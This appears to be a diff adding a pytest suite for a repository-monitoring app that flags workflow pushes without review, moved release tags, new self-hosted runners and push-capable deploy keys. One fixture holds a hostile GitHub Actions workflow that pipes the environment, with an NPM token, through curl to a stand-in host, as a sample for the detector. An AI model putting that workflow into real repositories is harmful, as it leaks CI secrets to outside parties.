@@ -1,0 +1,205 @@
+"""From a push to the check run and the issue, on the stand-in: what people see of a signal, and that a clean push says nothing."""
+
+from collections.abc import Iterator
+from html import unescape
+
+import pytest
+from redis import Redis
+
+from handlers.jobs import JOBS
+from tests.acme import RELEASE, TRUSTED
+from tests.signals.story import Story, policy, watched
+
+CI = ".github/workflows/ci.yml"
+TEST = """\
+on: {push: {branches: [main]}}
+jobs:
+  test:
+    runs-on: ubuntu-latest
+    steps:
+      - run: make test
+"""
+STEALS = """\
+on: push
+jobs:
+  format:
+    runs-on: ubuntu-latest
+    steps:
+      - env: {TOKEN: "${{ secrets.NPM_TOKEN }}"}
+        run: |
+          env | base64 | curl --data-binary @- https://collect.example.org/
+"""
+
+
+@pytest.fixture
+def story(redis: Redis) -> Iterator[Story]:
+    with watched(redis) as story:
+        yield story
+
+
+def test_a_workflow_that_sends_a_secret_away_is_told_on_its_line_and_in_an_issue_at_once(story: Story) -> None:
+    tool = story.repository("tool", {CI: TEST})
+    commit = tool.push({".github/workflows/format.yml": STEALS}, branch="tidy", by="mallory")
+    story.settle()
+
+    run = story.run(tool, commit)
+    assert (run.conclusion, run.title) == (
+        "neutral",
+        "2 signals: A secret is newly handed to a command that sends it to an unknown host · No rule is in force here",
+    )
+    assert [(note["path"], note["start_line"], note["annotation_level"]) for note in run.annotations] == [
+        (".github/workflows/format.yml", 8, "warning"),
+        (".github/workflows/format.yml", 1, "warning"),
+    ]
+    (issue,) = story.security
+    assert issue.title == (
+        "Signal: A secret is newly handed to a command that sends it to an unknown host and 1 more signal (acme/tool)"
+    )
+    assert "curl sends NPM&#95;TOKEN to collect.example.org" in (issue.body or "")
+    assert "mallory pushed the branch tidy" in (issue.body or "")
+
+
+def test_the_same_pull_request_done_rightly_says_nothing(story: Story) -> None:
+    tool = story.repository("tool", {CI: TEST})
+    pull = tool.pull_request({CI: TEST.replace("make test", "make check")}, by="alice")
+    commit = tool.merge(pull.number, by="bob")
+    story.settle()
+
+    assert story.run(tool, commit).title == "No rule is in force here"
+    assert story.security == []
+
+
+def test_a_workflow_that_is_pushed_to_the_default_branch_is_told(story: Story) -> None:
+    tool = story.repository("tool", {CI: TEST})
+    commit = tool.push({CI: TEST.replace("make test", "make check")}, by="mallory")
+    story.settle()
+
+    (issue,) = story.security
+    assert f"{CI} was changed by a push of mallory (commit {commit[:7]}) and no pull request" in _plain(issue.body)
+    assert story.run(tool, commit).conclusion == "neutral"
+
+
+def test_done_again_it_writes_nothing_and_what_comes_later_joins_the_issue_while_it_is_open(story: Story) -> None:
+    tool = story.repository("tool", {CI: TEST})
+    first = tool.push({CI: TEST.replace("make test", "make check")}, by="mallory")
+    story.settle()
+    run = story.run(tool, first)
+    writes = run.writes
+    story.told = 0
+    story.settle()
+    (issue,) = story.security
+    assert (run.writes, issue.comments) == (writes, [])
+
+    tool.push({CI: TEST.replace("make test", "make all")}, by="mallory")
+    story.settle()
+    assert [comment.body.split("\n")[1] for comment in issue.comments] == ["There is more."]
+
+    story.acme.github.repository("acme/security").close(issue.number, by="alice")
+    tool.push({CI: TEST.replace("make test", "make none")}, by="mallory")
+    story.settle()
+    assert [each.state for each in story.security] == ["closed", "open"]
+
+
+def test_a_tag_that_moves_to_a_commit_on_no_branch_is_told_twice_over(story: Story) -> None:
+    tool = story.repository("tool", {CI: TEST})
+    tool.tag("v1.0.0")
+    story.settle()
+    stray = tool.commit_beside({"index.js": "steal()"}, by="mallory")
+    tool.tag("v1.0.0", stray, by="mallory")
+    story.settle()
+
+    (issue,) = story.security
+    assert "mallory moved the tag v1.0.0 on" in _plain(issue.body)
+    assert f"mallory put the tag v1.0.0 on {stray[:7]}, which is on no branch" in _plain(issue.body)
+    assert story.run(tool, stray).conclusion == "neutral"
+
+
+def test_a_tag_on_a_release_branch_is_as_it_should_be(story: Story) -> None:
+    tool = story.repository("tool", {CI: TEST})
+    commit = tool.push({"fix.txt": "fixed"}, branch="release/1.x", by="alice")
+    tool.push({"fix.txt": "fixed more"}, branch="release/1.x", by="alice")
+    tool.tag("v1.0.1", commit, by="alice")
+    tool.tag("v1.0.1-annotated", commit, by="alice", message="one more")
+    story.settle()
+
+    assert story.security == []
+
+
+def test_tags_that_move_unheard_are_found_by_the_sweep(story: Story) -> None:
+    tool = story.repository("action", {"action.yml": "runs: {using: composite, steps: []}\n"})
+    names = [f"v1.{minor}.0" for minor in range(5)]
+    tool.push_tags(*names)
+    sweep(story)
+    assert story.security == []
+    stray = tool.commit_beside({"index.js": "steal()"}, by="mallory")
+    tool.push_tags(*names, sha=stray, by="mallory")
+    sweep(story)
+
+    (issue,) = story.security
+    told = _plain(issue.body) + "".join(_plain(comment.body) for comment in issue.comments)
+    assert all(f"moved the tag {name} on" in told for name in names)
+
+
+def test_a_runner_and_a_key_that_were_added_are_told_by_the_next_look(story: Story) -> None:
+    tool = story.repository("tool", {RELEASE: TRUSTED})
+    sweep(story)
+    tool.runner("laptop")
+    tool.deploy_key("sync", read_only=False, by="mallory")
+    sweep(story)
+
+    (issue,) = story.security
+    assert "the self-hosted runner laptop was added" in _plain(issue.body)
+    assert "the deploy key sync, which can push, was added by mallory" in _plain(issue.body)
+
+
+def test_an_enforced_signal_fails_the_check_and_a_waiver_takes_it_back(redis: Redis) -> None:
+    with watched(redis, "enforce") as story:
+        tool = story.repository("tool", {CI: TEST})
+        commit = tool.push({CI: TEST.replace("make test", "make check")}, by="mallory")
+        story.settle()
+        assert story.run(tool, commit).conclusion == "failure"
+
+        waiver = (
+            "waivers:\n"
+            "  - {rule: direct-workflow-edit, repository: acme/tool, reason: moved in a hurry, owner: '@bob', expires: "
+            f"{story.acme.day(30)}}}\n"
+        )
+        story.acme.github.repository("acme/.github").push({"publishing.yml": policy("enforce") + waiver})
+        story.settle()
+        story.acme.check(tool, commit)
+        assert story.run(tool, commit).conclusion == "neutral"  # nobody was seen to approve the waiver
+
+
+def test_what_the_app_may_not_see_is_said_and_is_no_pass(redis: Redis) -> None:
+    with watched(redis, without=("pull_requests",)) as story:
+        tool = story.repository("tool", {CI: TEST})
+        commit = tool.push({CI: TEST.replace("make test", "make check")}, by="alice")
+        story.settle()
+
+        run = story.run(tool, commit)
+        assert run.conclusion == "neutral"
+        assert "could not be seen: the pull requests that the commits came with" in _plain(run.summary)
+        assert story.security == []
+
+
+def test_a_push_that_changes_no_workflow_takes_two_calls(story: Story) -> None:
+    tool = story.repository("tool", {CI: TEST})
+    tool.push({"README.md": "first"}, by="alice")
+    story.settle()
+    before = len(story.acme.github.calls)
+    tool.push({"README.md": "news"}, by="alice")
+    story.settle()
+    looked = story.acme.github.calls[before:]
+
+    assert looked[:2] == ["POST /graphql", "GET /repos/{owner}/{repo}/compare/{basehead}"]
+
+
+def sweep(story: Story) -> None:
+    """Look at everything, as the clock asks for."""
+    JOBS["sweep_installation"](story.acme.context, story.acme.id)
+    story.settle()
+
+
+def _plain(text: str | None) -> str:
+    """Text as people read it."""
+    return unescape(text or "").replace("\u2060", "").replace("<code>", "").replace("</code>", "")
